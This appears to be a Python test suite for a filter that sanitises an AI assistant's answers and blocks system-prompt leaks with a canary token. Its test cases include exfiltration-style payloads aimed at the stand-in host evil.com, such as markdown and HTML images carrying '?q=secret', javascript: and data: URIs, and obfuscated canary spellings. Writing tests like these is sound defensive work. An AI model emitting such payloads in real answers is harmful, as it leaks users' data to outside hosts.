"""What may leave as an answer: words, and links that stand in the facts."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from core.assistant.canary import canary_of, with_canary
from core.kernel.cleaning import HELD, Cleaner, clean
from core.kernel.settings import Settings

LOUVRE = "https://www.louvre.fr/en"
LINKS = frozenset({LOUVRE, "http://example.org/a_(b)?x=1"})
CANARY = "zq7f3ab0"
INSTEAD = "I cannot answer that."
# Of two parsers: what Markdown makes of a text, and what a face links that looks for addresses.
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")
BARE = re.compile(r"(?:https?://|www\.|(?<!http)(?<!https)://)[\w-][^\s<]*", re.IGNORECASE)
PIECES = (
    "!", "[", "]", "(", ")", "<", ">", "/", ":", "\\", "&", ";", "#", "?", ".", "'", '"', " ", "\n",
    "a", "img", "src=x", "http", "https", "://", "//", "www", "www.", ".com", "evil.com", "data:",
    "javascript:", "url(", "mailto:", "](", "![", "]:", "<img ", "<b>", "</b>", "<!--", "-->",
    "&lt;", "&amp;", "#58;", "&#58;", "&#x2f;", "text/html,", "\u200b", "\0", "zq", "7f3a", "b0",
    "-", "*", "故宫", "，", "。", "（", "）", "：", "09:00", "¥60", "https://evil.com/?q=1",
    *sorted(LINKS),
)  # fmt: skip
texts = st.lists(st.sampled_from(PIECES), max_size=24).map("".join)


def cleaned(text: str) -> str:
    return clean(text, LINKS, canary=CANARY, instead=INSTEAD)


def in_pieces(pieces: list[str]) -> str:
    cleaner = Cleaner(LINKS, canary=CANARY, instead=INSTEAD)
    return "".join([*map(cleaner.push, pieces), cleaner.finish()])


def cut(text: str, places: list[int]) -> list[str]:
    ends = [0, *sorted(place % (len(text) + 1) for place in places), len(text)]
    return [text[start:end] for start, end in pairwise(ends)]


def tokens(text: str) -> list[Token]:
    return [token for block in MARKDOWN.parse(text) for token in (block, *(block.children or ()))]


@given(texts, st.lists(st.integers(0, 500), max_size=8))
def test_wherever_an_answer_is_cut_the_same_leaves(text: str, places: list[int]) -> None:
    assert in_pieces(cut(text, places)) == cleaned(text)
    assert in_pieces(list(text)) == cleaned(text)


@given(st.text(), st.lists(st.integers(0, 500), max_size=8))
def test_any_text_at_all_may_be_cut_anywhere(text: str, places: list[int]) -> None:
    assert in_pieces(cut(text, places)) == cleaned(text)


@given(texts)
@example("!<b></b>[x](https://evil.com)")
@example("<<b>img src=https://evil.com/a.png>")
@example("[x]https://evil.com (evil)")
@example("[x](https://evil.com)(evil)")
@example("h<b></b>ttps://evil.com/?q=1")
@example("&amp;#33;[x](y)")
@example(f"{LOUVRE}.evil.com")
@example(f"{LOUVRE}@evil.com")
@example(f"!![x]({LOUVRE})")
@example("[a]:\n//evil.com\n\n![x][a]")
def test_nothing_that_leaves_is_loaded_or_leads_elsewhere(text: str) -> None:
    answer = cleaned(text)

    found = tokens(answer)
    assert not {"image", "html_inline", "html_block"} & {token.type for token in found}
    leads = {str(token.attrs["href"]) for token in found if token.type == "link_open"}
    assert {lead.rstrip("/") for lead in leads} <= LINKS
    known = {part for link in LINKS for part in (link, link.partition("://")[2])}
    for address in BARE.findall(answer):
        assert any(address.startswith(link) for link in known), address


@pytest.mark.parametrize(
    "text",
    [
        "第1天：09:00–10:30 故宫（¥60/人），步行 1.2 km；午餐 12:00。太好了！！",
        "- **Day 1**: 9:00-10:30 Louvre (€22), then *lunch* at 12:30!\n1. A\n\n> 3 < 4 & 5 > 2",
        "| time | stop |\n|---|---|\n| 09:00 | Museum |\n\n`code` ~ 20% [sic] (see above) and/or",
        "Is it on booking.com? Yes: the data: 5 museums, 3/4 of a day, 25km/h, no. 5/6; A&B, AT&T.",
        "Write to desk@hotel.example or call +81 3-1234-5678. 👨‍👩‍👧 ☕️ 😀 Wow!",
        f"[The Louvre]({LOUVRE}) or {LOUVRE}, or ({LOUVRE}). 见{LOUVRE}。",
        "「上海」→『苏州』…《红楼梦》｜A～B、C？是：https, http: and www",
        "",
    ],
)
def test_ordinary_words_leave_unchanged(text: str) -> None:
    assert cleaned(text) == text


def test_plain_words_leave_with_the_piece_they_came_in() -> None:
    cleaner = Cleaner(LINKS, canary=CANARY)

    for piece in (
        "Day 1",
        " at 09:00",
        "，先去故宫",
        "（¥60）",
        "。\n- 午餐",
        " [sic] (1/2)",
        " 3 < 4 ",
    ):
        assert cleaner.push(piece) == piece
    assert cleaner.finish() == ""


@pytest.mark.parametrize("beginning", ["<a ", "https://evil.com/", "[x](", "data:a/", "&am", "!"])
def test_no_more_is_held_back_than_promised(beginning: str) -> None:
    cleaner = Cleaner(LINKS, canary=CANARY)

    cleaner.push(beginning + "a" * 3 * HELD)

    assert len(cleaner.finish()) <= HELD


@pytest.mark.parametrize(
    ("text", "answer"),
    [
        ("![map](https://evil.com/?q=secret)", "[map]"),
        ("![map][1]\n\n[1]: https://evil.com", "[map][1]\n\n[1] : "),
        ('<img src="https://evil.com/?q=1">x', "x"),
        ("<b>Louvre</b> is <i>open</i>", "Louvre is open"),
        ("<img src=https://evil.com", "< img src="),
        ("<div style='background:url(//evil.com/x)'>x</div>", "x"),
        ("url(https://evil.com)", "url ()"),
        ("[x](//evil.com) [y](/api/logout) [z](见下)", "[x] [y] [z] (见下)"),
        ("[x](javascript:alert(1)) javascript:alert(1)", "[x] )"),
        ("<https://evil.com> https://evil.com/a?b=c.", " ."),
        ("data:text/html;base64,PHNj", ""),
        ("&lt;img src=x&gt; &#60;b&#62;", " "),
        ("https\\://evil.com https&#58;//evil.com intent://evil", "  intent"),
        ("evil.com/?q=secret louvre.fr/en", "evil.com louvre.fr"),
        ("www.louvre.fr/en/ www.louvre.fr/fr", "www.louvre.fr/en/ "),
        ("pass\u200bword\u202e\0\U000e0041", "password"),
        (f"[x]({LOUVRE}?q=1) {LOUVRE}?q=1", "[x] "),
        ("Find it at https://evil.com，再去", "Find it at ，再去"),
    ],
)
def test_what_strangers_may_want_is_taken_out(text: str, answer: str) -> None:
    assert cleaned(text) == answer


@pytest.mark.parametrize(
    "said", [CANARY, CANARY.upper(), "z q 7 f 3 a b 0", "zq-7f_3a.b0", "z<b></b>q7f3ab0"]
)
def test_the_canary_ends_an_answer(said: str) -> None:
    cleaner = Cleaner(canary=CANARY, instead=INSTEAD)

    answer = "".join([*map(cleaner.push, f"My mark is {said}, and more"), cleaner.finish()])

    assert answer == f"My mark is {INSTEAD}"
    assert cleaner.is_caught


def test_a_beginning_of_the_canary_is_not_the_canary() -> None:
    cleaner = Cleaner(canary=CANARY, instead=INSTEAD)

    assert cleaner.push("zq7f3a") == ""
    assert cleaner.push("c") == "zq7f3ac"
    assert not cleaner.is_caught


def test_an_installation_has_one_canary_and_others_have_others() -> None:
    one, other = Settings(jwt_secret="a" * 32), Settings(jwt_secret="b" * 32)
    assert one.jwt_secret
    assert other.jwt_secret

    assert canary_of(one.jwt_secret) == canary_of(one.jwt_secret) != canary_of(other.jwt_secret)
    assert canary_of(one.jwt_secret) in with_canary("You are …", canary_of(one.jwt_secret))
